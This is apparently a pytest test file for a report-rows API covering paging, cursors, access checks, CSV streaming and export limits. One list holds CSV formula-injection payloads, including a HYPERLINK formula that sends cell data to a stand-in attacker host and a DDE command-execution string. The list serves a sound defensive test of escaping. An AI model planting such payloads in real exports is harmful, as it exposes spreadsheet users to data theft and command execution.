"""GET /v1/reports/{report}/rows: typed rows of one property, paged and as streamed CSV."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import logging
import socket
import uuid
from dataclasses import replace
from datetime import date, datetime
from decimal import Decimal
from urllib.parse import urlencode

import aiohttp
import pytest

from ga4sync.reports import BUILTIN_REPORTS, ReportSpec
from ga4sync.store.properties import upsert_property
from ga4sync.store.report_tables import ensure_report_tables, table_name
from ga4sync.web.app import create_app
from ga4sync.web.common import ROWS

from ..webtools import ADMIN, ORIGIN, bearer

# Two dimensions and one metric of each SQL type: bigint, double precision, numeric.
PLANS = ReportSpec(
    "plans",
    ("date", "customEvent:plan", "sessionSource"),
    ("sessions", "bounceRate", "customEvent:revenue"),
)
COLUMNS = [
    "property_id",
    "date",
    "custom_event_plan",
    "session_source",
    "sessions",
    "bounce_rate",
    "custom_event_revenue",
    "synced_at",
]
# Values CSV must quote, an empty one, and ones whose byte order differs from a locale's.
PLAN_VALUES = ["Pro", "basic", "Éclair", "", "a,b", 'say "hi"', "two\nlines", "ßeta"]


@pytest.fixture
async def api(aiohttp_client, runtime, web_settings, pool):
    async with pool.acquire() as conn:
        await ensure_report_tables(conn, [*BUILTIN_REPORTS, PLANS])
    settings = replace(web_settings, reports=(*BUILTIN_REPORTS, PLANS))
    return await aiohttp_client(create_app(settings, runtime=runtime))


async def fill(pool, ref: int, *, days: int, per_day: int, pad: int = 0) -> int:
    """``days`` x ``per_day`` rows of ``plans`` for property ``ref``, made by the server:
    every kind of dimension value, exact numerics, doubles and some null metrics."""
    plans = "array[" + ", ".join(f"${n + 2}" for n in range(len(PLAN_VALUES))) + "]"
    await pool.execute(
        f"""insert into {table_name(PLANS.key)}
            (property_ref, date, dimension_key, custom_event_plan, session_source,
             sessions, bounce_rate, custom_event_revenue)
            select $1, date '2026-03-01' + d, md5($1::bigint || '/' || d || '/' || n)::uuid,
                   ({plans}::text[])[1 + n % {len(PLAN_VALUES)}],
                   's' || n || repeat('x', {pad}),
                   case when n % 11 = 0 then null else n * 7 end,
                   (n % 10) / 3.0::float8,
                   12345678901234567890.123456789 + n
            from generate_series(0, {days - 1}) d, generate_series(1, {per_day}) n""",
        ref,
        *PLAN_VALUES,
    )
    return days * per_day


async def relation_rows(pool, property_id: str):
    """What the typed relation holds for the property, in the API's order."""
    return await pool.fetch(
        """select * from ga4_plans where property_id = $1
           order by date, custom_event_plan collate "C", session_source collate "C" """,
        property_id,
    )


def same_row(api_row: dict, stored) -> bool:
    """A JSON row (numbers parsed as Decimal) against the relation's typed row."""
    assert list(api_row) == COLUMNS
    for name in COLUMNS:
        value, want = api_row[name], stored[name]
        if name == "date":
            ok = value == want.isoformat()
        elif name == "synced_at":
            ok = datetime.fromisoformat(value) == want
        elif name == "bounce_rate" and value is not None:
            ok = float(value) == want  # the shortest text that reads back to the double
        else:
            ok = value == want and type(value) is type(want)
        if not ok:
            return False
    return True


async def walk(api, property_id: str, *, limit: int, user=ADMIN, **query) -> tuple[list, int]:
    rows, after, pages = [], None, 0
    while True:
        params = {"property_id": property_id, "limit": str(limit), **query}
        if after:
            params["after"] = after
        response = await api.get("/v1/reports/plans/rows", params=params, headers=bearer(user))
        assert response.status == 200, await response.text()
        body = json.loads(await response.text(), parse_float=Decimal)
        assert body["report"] == "plans" and body["relation"] == "ga4_plans"
        assert body["property_id"] == property_id
        assert len(body["rows"]) <= limit
        rows += body["rows"]
        pages += 1
        after = body["next"]
        if after is None:
            return rows, pages
        assert len(body["rows"]) == limit  # only the last page is short


async def test_paging_returns_every_row_once_in_order(api, pool):
    owner = uuid.uuid4()
    ref = await upsert_property(pool, owner, "5001")
    total = await fill(pool, ref, days=3, per_day=140)
    other = await upsert_property(pool, uuid.uuid4(), "5002")
    await fill(pool, other, days=2, per_day=10)
    stored = await relation_rows(pool, "5001")
    assert len(stored) == total

    rows, pages = await walk(api, "5001", limit=37, user=owner)
    assert pages == -(-total // 37)
    assert len(rows) == total
    assert all(same_row(row, want) for row, want in zip(rows, stored, strict=True))
    # by date, then the dimension values in code point (UTF-8 byte) order
    keys = [(r["date"], r["custom_event_plan"], r["session_source"]) for r in rows]
    assert keys == sorted(keys) and len(set(keys)) == total
    assert {"", "two\nlines", "Éclair"} <= {r["custom_event_plan"] for r in rows}
    # exact numerics keep every digit; some metrics are null
    assert rows[0]["custom_event_revenue"] > Decimal("12345678901234567890.123456789")
    assert any(r["sessions"] is None for r in rows)

    # A page size that divides the rows: the last full page says there is no next.
    exact, pages = await walk(api, "5001", limit=total // 4, user=owner)
    assert pages == 4 and exact == rows
    (whole, pages) = await walk(api, "5001", limit=10_000, user=owner)
    assert pages == 1 and whole == rows


async def test_dates_bound_the_rows_and_default_to_all(api, pool):
    ref = await upsert_property(pool, ADMIN, "5011")
    await fill(pool, ref, days=5, per_day=6)
    stored = await relation_rows(pool, "5011")
    rows, _ = await walk(api, "5011", limit=4, start_date="2026-03-02", end_date="2026-03-03")
    wanted = [r for r in stored if date(2026, 3, 2) <= r["date"] <= date(2026, 3, 3)]
    assert len(rows) == 12 and all(map(same_row, rows, wanted))
    rows, _ = await walk(api, "5011", limit=50, start_date="2026-03-05")
    assert {r["date"] for r in rows} == {"2026-03-05"}
    rows, _ = await walk(api, "5011", limit=50, end_date="2026-02-28")
    assert rows == []
    rows, _ = await walk(api, "5011", limit=7, start_date="2026-03-01", end_date="2026-03-01")
    assert len(rows) == 6


async def test_a_cursor_is_a_position_that_survives_rows_changing(api, pool):
    ref = await upsert_property(pool, ADMIN, "5021")
    await fill(pool, ref, days=2, per_day=8)
    params = {"property_id": "5021", "limit": "5"}
    first = await (
        await api.get("/v1/reports/plans/rows", params=params, headers=bearer(ADMIN))
    ).json()
    last = first["rows"][-1]
    table = table_name(PLANS.key)
    # A sync deletes the page's last row and adds one before it and one after it.
    await pool.execute(
        f"delete from {table} where property_ref = $1 and date = $2 and custom_event_plan = $3"
        " and session_source = $4",
        ref,
        date.fromisoformat(last["date"]),
        last["custom_event_plan"],
        last["session_source"],
    )
    for plan in ("", "\U0010ffff"):  # the lowest and the highest value there is
        await pool.execute(
            f"insert into {table} (property_ref, date, dimension_key, custom_event_plan,"
            " session_source) values ($1, $2, $3, $4, $5)",
            ref,
            date.fromisoformat(last["date"]),
            uuid.uuid4(),
            plan,
            last["session_source"],
        )
    rest, _ = await walk(api, "5021", limit=4, after=first["next"])
    position = (last["date"], last["custom_event_plan"], last["session_source"])
    stored = await relation_rows(pool, "5021")
    after = [
        r
        for r in stored
        if (r["date"].isoformat(), r["custom_event_plan"], r["session_source"]) > position
    ]
    assert len(rest) == len(after) and all(map(same_row, rest, after))
    assert "\U0010ffff" in {r["custom_event_plan"] for r in rest}
    assert "" not in {r["custom_event_plan"] for r in rest if r["date"] == last["date"]}


async def test_someone_elses_property_and_no_property_are_the_same_404(api, pool):
    owner, stranger = uuid.uuid4(), uuid.uuid4()
    ref = await upsert_property(pool, owner, "5031")
    await fill(pool, ref, days=1, per_day=3)
    url = "/v1/reports/plans/rows"
    theirs = await api.get(url, params={"property_id": "5031"}, headers=bearer(stranger))
    missing = await api.get(url, params={"property_id": "5039"}, headers=bearer(stranger))
    assert theirs.status == missing.status == 404
    assert (await theirs.json())["error"] == "not_found"
    # the same words but for the id asked about: nothing tells them apart
    assert (await theirs.text()).replace("5031", "N") == (await missing.text()).replace("5039", "N")
    as_csv = await api.get(
        url, params={"property_id": "5031", "format": "csv"}, headers=bearer(stranger)
    )
    assert as_csv.status == 404 and as_csv.content_type == "application/json"
    mine = await api.get(url, params={"property_id": "5031"}, headers=bearer(owner))
    assert mine.status == 200 and len((await mine.json())["rows"]) == 3
    admin = await api.get(url, params={"property_id": "5031"}, headers=bearer(ADMIN))
    assert admin.status == 200 and len((await admin.json())["rows"]) == 3

    unknown = await api.get(
        "/v1/reports/nope/rows", params={"property_id": "5031"}, headers=bearer(owner)
    )
    assert unknown.status == 404 and (await unknown.json())["error"] == "not_found"
    assert (await api.get(url, params={"property_id": "5031"})).status == 401


async def test_bad_parameters_are_400_with_their_code(api, pool):
    ref = await upsert_property(pool, ADMIN, "5041")
    await fill(pool, ref, days=1, per_day=4)
    other = await upsert_property(pool, ADMIN, "5042")
    await fill(pool, other, days=1, per_day=4)

    async def next_of(report: str, property_id: str) -> str:
        response = await api.get(
            f"/v1/reports/{report}/rows",
            params={"property_id": property_id, "limit": "1"},
            headers=bearer(ADMIN),
        )
        return (await response.json())["next"]

    cursor = await next_of("plans", "5041")
    changed = cursor[:10] + ("A" if cursor[10] != "A" else "B") + cursor[11:]
    await pool.execute(
        f"insert into {table_name(BUILTIN_REPORTS[0].key)} (property_ref, date, dimension_key)"
        " select $1, date '2026-01-01' + d, md5('')::uuid from generate_series(0, 1) d",
        ref,
    )
    other_report = await next_of(BUILTIN_REPORTS[0].name, "5041")
    cases = [
        ("plans", {}, "missing_property_id"),
        ("plans", {"property_id": "abc"}, "invalid_property_id"),
        ("plans", {"property_id": "5041", "start_date": "2026-02-30"}, "invalid_start_date"),
        ("plans", {"property_id": "5041", "start_date": "2026-3-01"}, "invalid_start_date"),
        ("plans", {"property_id": "5041", "end_date": "2026-13-01"}, "invalid_end_date"),
        ("plans", {"property_id": "5041", "end_date": "yesterday"}, "invalid_end_date"),
        (
            "plans",
            {"property_id": "5041", "start_date": "2026-03-02", "end_date": "2026-03-01"},
            "invalid_date_range",
        ),
        ("plans", {"property_id": "5041", "limit": "0"}, "invalid_limit"),
        ("plans", {"property_id": "5041", "limit": "10001"}, "invalid_limit"),
        ("plans", {"property_id": "5041", "limit": "ten"}, "invalid_limit"),
        ("plans", {"property_id": "5041", "after": "!"}, "invalid_after"),
        ("plans", {"property_id": "5041", "after": "garbled"}, "invalid_after"),
        ("plans", {"property_id": "5041", "after": cursor[:-3]}, "invalid_after"),
        ("plans", {"property_id": "5041", "after": changed}, "invalid_after"),
        ("plans", {"property_id": "5042", "after": cursor}, "invalid_after"),  # another property
        ("plans", {"property_id": "5041", "after": other_report}, "invalid_after"),
        ("plans", {"property_id": "5041", "after": changed, "format": "csv"}, "invalid_after"),
        ("plans", {"property_id": "5041", "format": "xml"}, "invalid_format"),
        ("Plans", {"property_id": "5041"}, "invalid_report"),
    ]
    for report, params, code in cases:
        response = await api.get(f"/v1/reports/{report}/rows", params=params, headers=bearer(ADMIN))
        body = await response.json()
        assert (response.status, body["error"]) == (400, code), (params, body)
        assert body["message"]
    # the untouched cursor still works
    ok = await api.get(
        "/v1/reports/plans/rows",
        params={"property_id": "5041", "after": cursor},
        headers=bearer(ADMIN),
    )
    assert ok.status == 200 and len((await ok.json())["rows"]) == 3


def parse_csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def json_texts(text: str) -> list[dict]:
    """A page's rows with every number kept as the text Postgres wrote."""
    return json.loads(text, parse_float=str, parse_int=str)["rows"]


async def test_csv_holds_the_json_rows(api, pool):
    ref = await upsert_property(pool, ADMIN, "5051")
    total = await fill(pool, ref, days=3, per_day=25)
    url, headers = "/v1/reports/plans/rows", bearer(ADMIN)
    params = {"property_id": "5051", "limit": "10000"}
    page = await api.get(url, params=params, headers=headers)
    rows = json_texts(await page.text())
    assert len(rows) == total

    by_accept = await api.get(
        url, params=params, headers={**headers, "Accept": "text/csv", "Origin": ORIGIN}
    )
    assert by_accept.status == 200
    assert by_accept.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert by_accept.headers["Content-Disposition"] == 'attachment; filename="ga4_plans_5051.csv"'
    assert by_accept.headers["Access-Control-Allow-Origin"] == ORIGIN
    assert "Content-Length" not in by_accept.headers  # streamed in chunks
    table = parse_csv(await by_accept.text())
    assert table[0] == COLUMNS
    assert len(table) == total + 1
    for line, row in zip(table[1:], rows, strict=True):
        # the same text for every value; a null is an empty field
        assert line == ["" if row[c] is None else str(row[c]) for c in COLUMNS]

    by_format = await api.get(url, params={**params, "format": "csv"}, headers=headers)
    assert (
        await by_format.text()
        == await (
            await api.get(url, params=params, headers={**headers, "Accept": "text/csv"})
        ).text()
    )
    assert parse_csv(await by_format.text()) == table

    ranged = await api.get(
        url,
        params={
            "property_id": "5051",
            "format": "csv",
            "start_date": "2026-03-02",
            "end_date": "2026-03-02",
        },
        headers=headers,
    )
    assert ranged.headers["Content-Disposition"] == (
        'attachment; filename="ga4_plans_5051_from_2026-03-02_to_2026-03-02.csv"'
    )
    assert parse_csv(await ranged.text())[1:] == [r for r in table[1:] if r[1] == "2026-03-02"]

    # JSON unless CSV is preferred
    for accept, kind in [
        ("application/json, text/csv;q=0.5", "application/json"),
        ("text/csv, application/json;q=0.5", "text/csv"),
        ("*/*", "application/json"),
        ("text/csv;q=0", "application/json"),
    ]:
        response = await api.get(url, params=params, headers={**headers, "Accept": accept})
        assert response.content_type == kind, accept
    head = await api.head(url, params={**params, "format": "csv"}, headers=headers)
    assert head.status == 200 and head.headers["Content-Type"] == "text/csv; charset=utf-8"
    empty = await api.get(
        url,
        params={"property_id": "5051", "format": "csv", "end_date": "2020-01-01"},
        headers=headers,
    )
    assert parse_csv(await empty.text()) == [COLUMNS]


LARGE_ROWS = 200_000
PAD = 200  # about 250 bytes a row: 50 MB of CSV, far more than the sockets hold


async def copies_running(pool) -> list[int]:
    """Backends running an export's COPY in this test's database (others' test runs
    share the server)."""
    return [
        r["pid"]
        for r in await pool.fetch(
            "select pid from pg_stat_activity where state = 'active'"
            " and datname = current_database()"
            " and query like 'COPY (%ga4sync_reports%' and pid <> pg_backend_pid()"
        )
    ]


async def test_a_large_csv_streams_while_postgres_is_still_producing_it(api, pool):
    ref = await upsert_property(pool, ADMIN, "5061")
    await fill(pool, ref, days=100, per_day=LARGE_ROWS // 100, pad=PAD)
    response = await api.get(
        "/v1/reports/plans/rows",
        params={"property_id": "5061", "format": "csv"},
        headers=bearer(ADMIN),
    )
    assert response.status == 200
    assert response.headers.get("Transfer-Encoding") == "chunked"
    first = await response.content.readany()
    assert first.startswith(b"property_id,date,")
    # The client holds the header row while the COPY behind it is still running ...
    assert await copies_running(pool)
    # ... and stays running while the client reads nothing: the server waits for the
    # client instead of reading the whole export into memory.
    await asyncio.sleep(1.0)
    assert len(await copies_running(pool)) == 1
    chunks, size, lines = 1, len(first), first.count(b"\n")
    async for chunk in response.content.iter_any():
        chunks += 1
        size += len(chunk)
        lines += chunk.count(b"\n")
    assert lines == LARGE_ROWS + 1 + LARGE_ROWS // len(PLAN_VALUES)  # rows, header, "two\nlines"
    assert size > 40_000_000 and chunks > 100
    assert await copies_running(pool) == []


async def test_a_client_that_goes_away_stops_the_export(api, pool):
    ref = await upsert_property(pool, ADMIN, "5071")
    await fill(pool, ref, days=100, per_day=LARGE_ROWS // 100, pad=PAD)
    params = {"property_id": "5071", "format": "csv"}
    response = await api.get("/v1/reports/plans/rows", params=params, headers=bearer(ADMIN))
    await response.content.readany()
    assert await copies_running(pool)
    response.close()
    for _ in range(100):
        if not await copies_running(pool):
            break
        await asyncio.sleep(0.1)
    assert await copies_running(pool) == []
    # the connection it held serves the next requests
    for _ in range(12):
        page = await api.get(
            "/v1/reports/plans/rows",
            params={"property_id": "5071", "limit": "2"},
            headers=bearer(ADMIN),
        )
        assert page.status == 200


async def test_a_database_failure_midway_cuts_the_csv_short(api, pool):
    ref = await upsert_property(pool, ADMIN, "5081")
    await fill(pool, ref, days=100, per_day=LARGE_ROWS // 100, pad=PAD)
    params = {"property_id": "5081", "format": "csv"}
    response = await api.get("/v1/reports/plans/rows", params=params, headers=bearer(ADMIN))
    await response.content.readany()
    (pid,) = await copies_running(pool)
    await pool.execute("select pg_terminate_backend($1)", pid)
    with pytest.raises(aiohttp.ClientPayloadError):
        await response.read()  # never a body that looks complete


async def test_exports_at_once_are_bounded_and_json_pages_still_answer(api, pool, runtime):
    ref = await upsert_property(pool, ADMIN, "5091")
    await fill(pool, ref, days=100, per_day=LARGE_ROWS // 100, pad=PAD)
    allowed = runtime.pool.get_max_size() // 2
    # users who each stay within their own share (EXPORTS_PER_USER), sharing the property
    users = [uuid.uuid4() for _ in range(allowed + 1)]
    for user in users:
        await upsert_property(pool, user, "5091")
    params = {"property_id": "5091", "format": "csv"}
    streaming = []
    for user in users[:allowed]:
        response = await api.get("/v1/reports/plans/rows", params=params, headers=bearer(user))
        assert response.status == 200
        await response.content.readany()
        streaming.append(response)
    busy = await api.get("/v1/reports/plans/rows", params=params, headers=bearer(users[-1]))
    assert busy.status == 503 and busy.headers["Retry-After"]
    assert (await busy.json())["error"] == "exports_busy"
    page = await api.get(
        "/v1/reports/plans/rows",
        params={"property_id": "5091", "limit": "3"},
        headers=bearer(ADMIN),
    )
    assert page.status == 200 and len((await page.json())["rows"]) == 3
    streaming.pop().close()
    for _ in range(100):
        if len(await copies_running(pool)) < allowed:
            break
        await asyncio.sleep(0.1)
    again = await api.get("/v1/reports/plans/rows", params=params, headers=bearer(ADMIN))
    assert again.status == 200
    again.close()
    for response in streaming:
        response.close()


# What a visitor can type into a page path, a source or a campaign: each starts a
# formula in Excel, LibreOffice or Google Sheets, or (tab, carriage return) hides one.
FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]
# Values that only contain one of those characters later, or already start with '.
HARMLESS = ["a=b", "/x?q=-1", "'quoted", "", "Pro"]


async def test_csv_neutralises_formulas_in_dimension_values_only(api, pool):
    ref = await upsert_property(pool, ADMIN, "5101")
    values = FORMULAS + HARMLESS
    await pool.execute(
        f"""insert into {table_name(PLANS.key)}
            (property_ref, date, dimension_key, custom_event_plan, session_source,
             sessions, bounce_rate, custom_event_revenue)
            select $1, date '2026-03-01', md5(n::text)::uuid, v, '-' || v, -n, -0.5, -1.25
            from unnest($2::text[]) with ordinality as u(v, n)""",
        ref,
        values,
    )
    url, headers = "/v1/reports/plans/rows", bearer(ADMIN)
    params = {"property_id": "5101", "format": "csv"}
    page = await api.get(url, params={"property_id": "5101"}, headers=headers)
    rows = json_texts(await page.text())
    # JSON keeps every value exactly
    assert sorted(r["custom_event_plan"] for r in rows) == sorted(values)
    assert {r["sessions"] for r in rows} == {str(-n) for n in range(1, len(values) + 1)}

    escaped = parse_csv(await (await api.get(url, params=params, headers=headers)).text())
    assert escaped[0] == COLUMNS
    assert len(escaped) == len(rows) + 1
    for line, row in zip(escaped[1:], rows, strict=True):
        cells = dict(zip(COLUMNS, line, strict=True))
        for column in ("custom_event_plan", "session_source"):
            value = row[column]
            dangerous = value[:1] in ("=", "+", "-", "@", "\t", "\r")
            assert cells[column] == ("'" + value if dangerous else value), (column, value)
        # numbers stay numbers, negative ones included; dates and ids are untouched
        for column in ("property_id", "date", "sessions", "bounce_rate", "custom_event_revenue"):
            assert cells[column] == str(row[column]), column
        assert cells["sessions"].startswith("-") and cells["bounce_rate"] == "-0.5"
    plans = {line[2] for line in escaped[1:]}
    assert plans == {"'" + v for v in FORMULAS} | set(HARMLESS)
    # every source starts with '-': all of them are neutralised
    assert {line[3] for line in escaped[1:]} == {"'-" + v for v in values}

    # Programs that read the file ask for the values exactly as stored.
    exact_response = await api.get(url, params={**params, "csv_escape": "false"}, headers=headers)
    exact = parse_csv(await exact_response.text())
    for line, row in zip(exact[1:], rows, strict=True):
        assert line == ["" if row[c] is None else str(row[c]) for c in COLUMNS]
    explicit = await api.get(url, params={**params, "csv_escape": "true"}, headers=headers)
    assert parse_csv(await explicit.text()) == escaped
    # an Accept header asking for CSV is escaped the same way
    by_accept = await api.get(
        url, params={"property_id": "5101"}, headers={**headers, "Accept": "text/csv"}
    )
    assert parse_csv(await by_accept.text()) == escaped

    for bad in ("maybe", "True", "0", ""):
        response = await api.get(url, params={**params, "csv_escape": bad}, headers=headers)
        body = await response.json()
        assert (response.status, body["error"]) == (400, "invalid_csv_escape"), bad


class SlowClient:
    """A real HTTP/1.1 client on its own socket that reads only when told to: with a
    small receive buffer and nothing read, the server's writes block as they would for
    a download paused in a browser or a client on a slow link."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.reader, self.writer = reader, writer
        self.received = b""

    @classmethod
    async def get(cls, api, path: str, headers: dict[str, str]) -> SlowClient:
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        sock.setblocking(False)
        await asyncio.get_running_loop().sock_connect(sock, (api.host, api.port))
        reader, writer = await asyncio.open_connection(sock=sock, limit=4096)
        lines = [f"GET {path} HTTP/1.1", f"Host: {api.host}:{api.port}", "Connection: close"]
        lines += [f"{name}: {value}" for name, value in headers.items()]
        writer.write(("\r\n".join(lines) + "\r\n\r\n").encode())
        await writer.drain()
        client = cls(reader, writer)
        await client.read(1)  # the status line and the first bytes are here
        return client

    @property
    def status(self) -> int:
        return int(self.received.split(b" ", 2)[1])

    async def read(self, at_least: int) -> int:
        """Read until ``at_least`` more bytes came or the server closed; how many came."""
        got = 0
        while got < at_least:
            try:
                chunk = await self.reader.read(65536)
            except ConnectionError:
                return got
            if not chunk:
                return got
            self.received += chunk
            got += len(chunk)
        return got

    async def read_to_end(self, timeout_s: float = 60.0) -> bytes:
        async with asyncio.timeout(timeout_s):
            while await self.read(1 << 20):
                pass
        return self.received

    def close(self) -> None:
        self.writer.close()


def export_path(property_id: str, **query: str) -> str:
    return "/v1/reports/plans/rows?" + urlencode({"property_id": property_id, **query})


@pytest.fixture
async def slow_api(aiohttp_client, runtime, web_settings, pool):
    """The rows API with a one-second idle timeout and one export per user."""
    async with pool.acquire() as conn:
        await ensure_report_tables(conn, [*BUILTIN_REPORTS, PLANS])
    settings = replace(
        web_settings,
        reports=(*BUILTIN_REPORTS, PLANS),
        export_idle_timeout_s=1.0,
        exports_per_user=1,
    )
    return await aiohttp_client(create_app(settings, runtime=runtime))


async def test_one_user_streams_at_most_exports_per_user_at_once(api, pool):
    alice, bob = uuid.uuid4(), uuid.uuid4()
    ref = await upsert_property(pool, alice, "5111")
    await upsert_property(pool, bob, "5111")
    await fill(pool, ref, days=100, per_day=LARGE_ROWS // 100, pad=PAD)
    params = {"property_id": "5111", "format": "csv"}
    url = "/v1/reports/plans/rows"
    streaming = []
    try:
        for _ in range(2):  # EXPORTS_PER_USER's default
            response = await api.get(url, params=params, headers=bearer(alice))
            streaming.append(response)
            assert response.status == 200
            await response.content.readany()
        async with api.get(url, params=params, headers=bearer(alice)) as third:
            assert third.status == 429 and third.content_type == "application/json"
            body = await third.json()
            assert body["error"] == "too_many_exports" and "at most 2" in body["message"]
            assert third.headers["Retry-After"]
        # Alice's pages still answer, and Bob exports while Alice holds her two.
        page = await api.get(
            url, params={"property_id": "5111", "limit": "2"}, headers=bearer(alice)
        )
        assert page.status == 200
        async with api.get(url, params=params, headers=bearer(bob)) as theirs:
            assert theirs.status == 200
        streaming.pop().close()
        for _ in range(100):
            if len(await copies_running(pool)) < 2:
                break
            await asyncio.sleep(0.1)
        async with api.get(url, params=params, headers=bearer(alice)) as again:
            assert again.status == 200
    finally:
        for response in streaming:
            response.close()


async def test_a_client_that_stops_reading_loses_its_export_and_slot(slow_api, pool, caplog):
    user = uuid.uuid4()
    ref = await upsert_property(pool, user, "5121")
    await fill(pool, ref, days=100, per_day=LARGE_ROWS // 100, pad=PAD)
    caplog.set_level(logging.INFO, logger="ga4sync.web.rows")
    rows = slow_api.server.app[ROWS]
    stalled = await SlowClient.get(slow_api, export_path("5121", format="csv"), bearer(user))
    try:
        await _stall_and_recover(slow_api, pool, caplog, stalled, rows, user)
    finally:
        stalled.close()


async def _stall_and_recover(slow_api, pool, caplog, stalled, rows, user) -> None:
    assert stalled.status == 200
    assert await copies_running(pool)
    # The export waits for the client, holding the user's one slot ...
    await asyncio.sleep(0.3)
    async with slow_api.get(
        "/v1/reports/plans/rows",
        params={"property_id": "5121", "format": "csv"},
        headers=bearer(user),
    ) as busy:
        assert busy.status == 429
    # ... until the client has read nothing for the idle timeout: then the export ends,
    # its database connection and its slot are freed.
    for _ in range(100):
        if not await copies_running(pool) and rows.exports_running(user) == 0:
            break
        await asyncio.sleep(0.1)
    assert await copies_running(pool) == [] and rows.exports_running() == 0
    assert any("read nothing for 1 s" in r.getMessage() for r in caplog.records)
    # What the client reads afterwards is an unfinished transfer, never a whole file.
    received = await stalled.read_to_end()
    assert not received.endswith(b"\r\n0\r\n\r\n")
    async with slow_api.get(
        "/v1/reports/plans/rows",
        params={"property_id": "5121", "format": "csv"},
        headers=bearer(user),
    ) as again:
        assert again.status == 200
        assert len(await again.read()) > 40_000_000


async def test_a_slow_client_that_keeps_reading_gets_the_whole_export(slow_api, pool):
    user = uuid.uuid4()
    ref = await upsert_property(pool, user, "5131")
    await fill(pool, ref, days=10, per_day=400, pad=PAD)  # about 1 MB
    started = asyncio.get_running_loop().time()
    slow = await SlowClient.get(slow_api, export_path("5131", format="csv"), bearer(user))
    try:
        # never a second without reading, yet longer than the idle timeout in all
        async with asyncio.timeout(60):
            while await slow.read(128 * 1024):
                await asyncio.sleep(0.25)
    finally:
        slow.close()
    assert asyncio.get_running_loop().time() - started > 1.5
    assert slow.received.endswith(b"\r\n0\r\n\r\n")
    assert slow.received.count(b"\n") > 4000
